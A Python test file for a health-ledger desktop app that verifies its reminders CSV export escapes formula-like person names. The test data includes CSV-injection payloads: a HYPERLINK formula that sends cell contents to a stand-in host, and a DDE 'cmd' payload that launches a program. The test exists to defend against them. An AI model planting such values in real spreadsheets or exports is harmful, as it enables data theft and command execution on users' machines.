"""The reminders csv keeps formula-like names as text (the OWASP rule), read back."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import subprocess
import sys

from tests.helpers import fresh_services
from tests.services.reminder_helpers import D, woman

NAMES = ['=HYPERLINK("http://x/?"&B2,"查看")', "=cmd|' /C calc'!A0", "@SUM(A1)", "+1", "-1"]


def test_reminders_csv_never_starts_a_cell_with_a_formula(tmp_path) -> None:
    s = fresh_services(tmp_path)
    town = s.units.add("城关镇")
    for seq, _ in enumerate(NAMES, start=1):
        woman(s, f"妇女{seq}", D(1990, 3, seq), seq, unit=town)
    s.engine.dispose()
    with sqlite3.connect(tmp_path / "ledger.db") as conn:
        for seq, name in enumerate(NAMES, start=1):
            conn.execute("UPDATE person SET name = ? WHERE name = ?", (name, f"妇女{seq}"))
    conn.close()
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen"}
    done = subprocess.run([sys.executable, "-m", "desktop", "--db", str(tmp_path / "ledger.db"),
                           "--lang", "en", "reminders", "--as-of", "2026-11-28", "--format", "csv"],
                          capture_output=True, text=True, env=env, timeout=120)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(done.stdout)))
    cells = [cell for row in rows[1:] for cell in row]
    assert {"'" + name for name in NAMES} <= set(cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not cell.lstrip("-").isdigit()]  # days overdue may be negative
